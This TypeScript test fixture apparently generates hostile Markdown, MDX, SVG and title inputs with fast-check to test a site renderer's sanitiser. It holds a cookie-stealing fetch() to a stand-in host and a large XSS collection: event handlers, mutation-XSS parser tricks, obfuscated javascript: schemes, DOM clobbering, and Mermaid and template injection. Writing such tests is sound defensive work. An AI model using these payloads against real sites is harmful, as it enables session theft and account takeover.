/**
 * What an author may try on readers: documents, names and pictures that run a script, load or send
 * something, or lead away, if anything of them is let through. Made by fast-check from vectors that
 * are known to have worked somewhere.
 */
import { createHash } from 'node:crypto';
import { imageFile } from '../../schemas/addresses.ts';
import fc from './generated.ts';

/** Nobody answers there; no request may try. */
export const ELSEWHERE = 'https://elsewhere.invalid';

/** Sets a mark, and sends what it can see. */
export const SCRIPT = `window.authored=1;fetch('${ELSEWHERE}/?'+document.cookie)`;

/** Published beside an attack because something links to it. */
export const SCRIPT_FILE = `${SCRIPT};document.title='authored';\n`;
const SCRIPT_URL = `/${imageFile(createHash('sha256').update(SCRIPT_FILE).digest('hex').slice(0, 12), 'x.js')}`;

export const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="500" height="400" onload="${SCRIPT}"><script>${SCRIPT}</script><image xlink:href="${ELSEWHERE}/x.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${SCRIPT}"/></foreignObject></svg>`;

const TAGS = [
  `<script>${SCRIPT}</script>`,
  `<script src="${SCRIPT_URL}"></script>`,
  `<script type=module src=${SCRIPT_URL}></script>`,
  `<img src=x onerror="${SCRIPT}">`,
  `<img src="x"onerror="${SCRIPT}"//>`,
  `<img alt="x" onerror="${SCRIPT}">`,
  `<img/src/onerror=${SCRIPT}>`,
  `<img src="i.svg" alt="x" onload="${SCRIPT}" name="querySelector">`,
  `<img src="${ELSEWHERE}/x.png" alt="">`,
  `<img srcset="${ELSEWHERE}/x.png 1x" alt="x">`,
  `<img lowsrc="${ELSEWHERE}/x.png" dynsrc="${ELSEWHERE}/x" longdesc="${ELSEWHERE}/x" usemap="#x">`,
  `<picture><source srcset="${ELSEWHERE}/x.png"><img alt="x"></picture>`,
  `<svg onload="${SCRIPT}">`,
  `<svg><script>${SCRIPT}</script></svg>`,
  `<svg><a xlink:href="javascript:${SCRIPT}"><text>x</text></a></svg>`,
  `<svg><use href="${SCRIPT_URL}#x"/><image href="${ELSEWHERE}/x.png"/></svg>`,
  `<svg><animate onbegin="${SCRIPT}" attributeName=x dur=1s>`,
  `<svg><set attributeName="href" to="javascript:${SCRIPT}"/></svg>`,
  `<svg><style><img src=x onerror="${SCRIPT}"></style></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${SCRIPT}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SCRIPT}&gt;">`,
  `<math href="javascript:${SCRIPT}">x</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${SCRIPT}"></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>"></noscript>`,
  `<textarea><img title="</textarea><img src=x onerror=${SCRIPT}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${SCRIPT}>"></title>`,
  `<xmp><p title="</xmp><img src=x onerror=${SCRIPT}>"></xmp>`,
  `<style><p title="</style><img src=x onerror=${SCRIPT}>"></style>`,
  `<select><style></select><img src=x onerror=${SCRIPT}></style></select>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${SCRIPT}>`,
  `<template><script>${SCRIPT}</script></template>`,
  `<plaintext><script>${SCRIPT}</script>`,
  `<!--><img src=x onerror=${SCRIPT}>-->`,
  `<![CDATA[<img src=x onerror=${SCRIPT}>]]>`,
  `<?xml-stylesheet href="${ELSEWHERE}/x.css"?>`,
  `<iframe src="javascript:${SCRIPT}"></iframe>`,
  `<iframe srcdoc="<script>parent.authored=1</script>"></iframe>`,
  `<object data="${SCRIPT_URL}"></object>`,
  `<object data="data:text/html,<script>${SCRIPT}</script>"></object>`,
  `<embed src="${ELSEWHERE}/x.swf">`,
  `<frameset onload="${SCRIPT}"><frame src="javascript:${SCRIPT}"></frameset>`,
  `<portal src="${ELSEWHERE}">`,
  `<applet code="x" codebase="${ELSEWHERE}">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base href="${ELSEWHERE}/">`,
  `<link rel="stylesheet" href="${ELSEWHERE}/x.css">`,
  `<link rel="prefetch" href="${ELSEWHERE}/x">`,
  `<link rel="manifest" href="${SCRIPT_URL}">`,
  `<style>@import "${ELSEWHERE}/x.css";body{background:url(${ELSEWHERE})}</style>`,
  `<b style="background:url(${ELSEWHERE}/x.png);position:fixed;inset:0">x</b>`,
  `<form action="${ELSEWHERE}" id="x"><input name="password" autofocus onfocus="${SCRIPT}"><button>Sign in</button></form>`,
  `<form action="/sign-out" method="post"><button>Read on</button></form>`,
  `<button form="x" formaction="${ELSEWHERE}">x</button>`,
  `<input type="image" src="${ELSEWHERE}/x.png" formaction="${ELSEWHERE}">`,
  `<isindex action="${ELSEWHERE}">`,
  `<keygen autofocus onfocus="${SCRIPT}">`,
  `<details open ontoggle="${SCRIPT}"><summary>x</summary></details>`,
  `<video poster="${ELSEWHERE}/x.png" src="${ELSEWHERE}/x.mp4" autoplay onerror="${SCRIPT}"><track src="${ELSEWHERE}/x.vtt"></video>`,
  `<audio src=x onerror="${SCRIPT}">`,
  `<body background="${ELSEWHERE}/x.png" onload="${SCRIPT}">`,
  `<html onmouseover="${SCRIPT}">`,
  `<table background="${ELSEWHERE}/x.png"><tr><td background="${ELSEWHERE}/y.png">x</td></tr></table>`,
  `<a href="b.md" ping="${ELSEWHERE}" target="_blank" download onclick="${SCRIPT}">x</a>`,
  `<a href="javascript&colon;${SCRIPT}">x</a>`,
  `<blockquote cite="javascript:${SCRIPT}">x</blockquote>`,
  `<div popover id="x" onbeforetoggle="${SCRIPT}">x</div><button popovertarget="page:account">x</button>`,
  `<div contenteditable autofocus onfocus="${SCRIPT}">x</div>`,
  `<marquee onstart="${SCRIPT}">x</marquee>`,
  `<dialog open>x<form method="dialog"></form></dialog>`,
  `<slot name="aside"></slot><x-y is="script">x</x-y>`,
  `<div data-template="${SCRIPT_URL}" data-page="javascript:${SCRIPT}" class="planner" data-fill data-tabs data-search-open>x</div>`,
  `<a class="zoom" href="javascript:${SCRIPT}"><img alt="x"></a>`,
] as const;

/** Names by which scripts find what they need. */
const CLOBBERS = [
  'querySelectorAll',
  'querySelector',
  'getElementById',
  'createElement',
  'addEventListener',
  'body',
  'documentElement',
  'cookie',
  'defaultView',
  'location',
  'page:sidebar',
  'page:contents',
  'page:account',
] as const;

const clobber = fc
  .tuple(
    fc.constantFrom('img', 'form', 'embed', 'object', 'iframe', 'a', 'b'),
    fc.constantFrom(...CLOBBERS),
  )
  .map(([tag, name]) => `<${tag} id="${name}" name="${name}" alt="x">`);

const scheme = fc.constantFrom(
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java&#x0A;script:',
  '&#106;avascript:',
  'javascript&colon;',
  '%6aavascript:',
  '\u0001javascript:',
  '&#1;javascript:',
  ' javascript:',
  'vbscript:',
  'livescript:',
  'data:text/html,',
  'data:image/svg+xml,',
  'blob:',
  'file:///',
  'view-source:',
  'filesystem:',
  'jar:',
  'ws:',
  'intent:',
  'feed:javascript:',
  'https:javascript:',
  '//elsewhere.invalid/',
  '\\\\elsewhere.invalid\\',
  '/\\elsewhere.invalid/',
  'doc:javascript:',
);

const target = fc
  .tuple(scheme, fc.constantFrom(SCRIPT, '<script>authored=1</script>', 'x'))
  .map(([a, b]) => a + b);

const link = fc
  .tuple(
    target,
    fc.constantFrom<(target: string) => string>(
      (to) => `[x](<${to.replaceAll(/[<>]/g, '')}>)`,
      (to) => `[x](${to.replaceAll(/[\s()]/g, '')})`,
      (to) => `![x](<${to.replaceAll(/[<>]/g, '')}>)`,
      (to) => `<${to.replaceAll(/[\s<>]/g, '')}>`,
      (to) => `[x]\n\n[x]: <${to.replaceAll(/[<>]/g, '')}> "x"`,
      (to) => `<a href="${to.replaceAll('"', "'")}">x</a>`,
      (to) => `<a href='${to.replaceAll("'", '"')}'>x</a>`,
      (to) => `<a href=${to.replaceAll(/[\s>]/g, '')}>x</a>`,
      (to) => `<img src="${to.replaceAll('"', "'")}" alt="x">`,
      (to) => `<area href="${to.replaceAll('"', "'")}">`,
      (to) => `[[${to.replaceAll(/[[\]|]/g, '')}]]`,
      (to) => `[[a|${to.replaceAll(/[[\]|]/g, '')}]]`,
      (to) => `![x](i.svg "${to.replaceAll('"', "'")}")`,
      (to) => `[^${to.replaceAll(/[\s\]]/g, '')}]\n\n[^${to.replaceAll(/[\s\]]/g, '')}]: x`,
    ),
  )
  .map(([to, write]) => write(to));

const mermaid = fc
  .constantFrom(
    `a["<img src=x onerror=${SCRIPT}>"] --> b`,
    `a["</text><script>${SCRIPT}</script>"] --> b`,
    `a --> b\nclick a href "javascript:${SCRIPT}"`,
    `a --> b\nclick a call authored()`,
    `a --> b\nstyle a fill:url(${ELSEWHERE}/x.svg#a)`,
    `a --> b\nstyle a fill:red;" onload="${SCRIPT}`,
    `a --> b\nclassDef x fill:url(${ELSEWHERE})\nclass a x`,
    `%%{init: {"securityLevel": "loose", "themeCSS": "@import '${ELSEWHERE}'"}}%%\na --> b`,
    `a"onload="${SCRIPT} --> b`,
    `subgraph x["<script>${SCRIPT}</script>"]\na --> b\nend`,
    `a -- "<svg onload=${SCRIPT}>" --> b`,
  )
  .map((lines) => `\`\`\`mermaid\ngraph TD\n${lines}\n\`\`\``);

const code = fc
  .constantFrom(...TAGS)
  .map((tag) => `\`\`\`html title="${tag.replaceAll(/["\n`]/g, "'")}"\n${tag}\n\`\`\``);

const component = fc
  .tuple(
    fc.constantFrom('Callout', 'Figure', 'Planner', 'Steps', 'Tab', 'Tabs', 'Video'),
    fc.constantFrom(
      'title',
      'caption',
      'label',
      'type',
      'src',
      'set:html',
      'set:text',
      'client:load',
      'client:only',
      'server:defer',
      'slot',
      'is:raw',
      'class',
      'id',
      'onclick',
      'define:vars',
      '__proto__',
      'children',
      'href',
      'style',
    ),
    fc.oneof(fc.constantFrom(...TAGS), target),
  )
  .map(
    ([name, attribute, value]) =>
      `<${name} ${attribute}='${value.replaceAll("'", '"')}'>\n\nText.\n\n</${name}>`,
  );

/** Where an attack stands in a text. */
const around = fc.constantFrom<(attack: string) => string>(
  (attack) => attack,
  (attack) => `Text ${attack} text.`,
  (attack) => `- Item\n\n  ${attack}`,
  (attack) => `> ${attack}`,
  (attack) => `> [!NOTE]\n> ${attack}`,
  (attack) => `# ${attack.replaceAll('\n', ' ')}`,
  (attack) => `| a |\n| - |\n| ${attack.replaceAll(/[\n|]/g, ' ')} |`,
  (attack) => `<div align="center">\n\n${attack}\n\n</div>`,
  (attack) => `<details><summary>${attack}</summary>\n\n${attack}`,
  (attack) => `[${attack}](b.md)`,
  (attack) => `**${attack}**[^1]\n\n[^1]: ${attack}`,
  (attack) => `## Procedure\n\n1. ${attack} <!-- step: a -->`,
);

interface Attack {
  readonly extension: 'md' | 'mdx';
  readonly body: string;
}

/** Every vector once, as it is. */
export const EVERY_ATTACK: readonly Attack[] = [
  ...TAGS.map((body) => ({ extension: 'md' as const, body })),
  ...CLOBBERS.map((name) => ({
    extension: 'md' as const,
    body: `<img id="${name}" name="${name}" alt="x"> <b id="${name}">x</b>`,
  })),
  ...TAGS.slice(0, 3).flatMap((tag) =>
    ['Callout', 'Tab', 'Video'].map((name) => ({
      extension: 'mdx' as const,
      body: `<${name} set:html='${tag}' />`,
    })),
  ),
  { extension: 'mdx', body: '<Tabs client:load server:defer />' },
];

/** A body in Markdown or MDX. */
export const attack: fc.Arbitrary<Attack> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc
      .tuple(
        fc.oneof(
          { weight: 4, arbitrary: fc.constantFrom<string>(...TAGS) },
          { weight: 3, arbitrary: link },
          clobber,
        ),
        around,
      )
      .map(([text, write]) => ({ extension: 'md' as const, body: write(text) })),
  },
  {
    weight: 1,
    arbitrary: fc.oneof(mermaid, code).map((body) => ({ extension: 'md' as const, body })),
  },
  { weight: 2, arbitrary: component.map((body) => ({ extension: 'mdx' as const, body })) },
  {
    weight: 1,
    arbitrary: fc
      .oneof(fc.constantFrom<string>(...TAGS), link)
      .map((body) => ({ extension: 'mdx' as const, body })),
  },
);

/** Words for a title, a summary or a name. */
export const hostileWords: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom<string>(...TAGS),
  target,
  fc.constantFrom(
    `</title><script>${SCRIPT}</script>`,
    `"><img src=x onerror=${SCRIPT}>`,
    `' onmouseover='${SCRIPT}`,
    `--><script>${SCRIPT}</script>`,
    `</script><script>${SCRIPT}</script>`,
    `{{constructor.constructor('${SCRIPT}')()}}`,
    `\${${SCRIPT}}`,
  ),
);
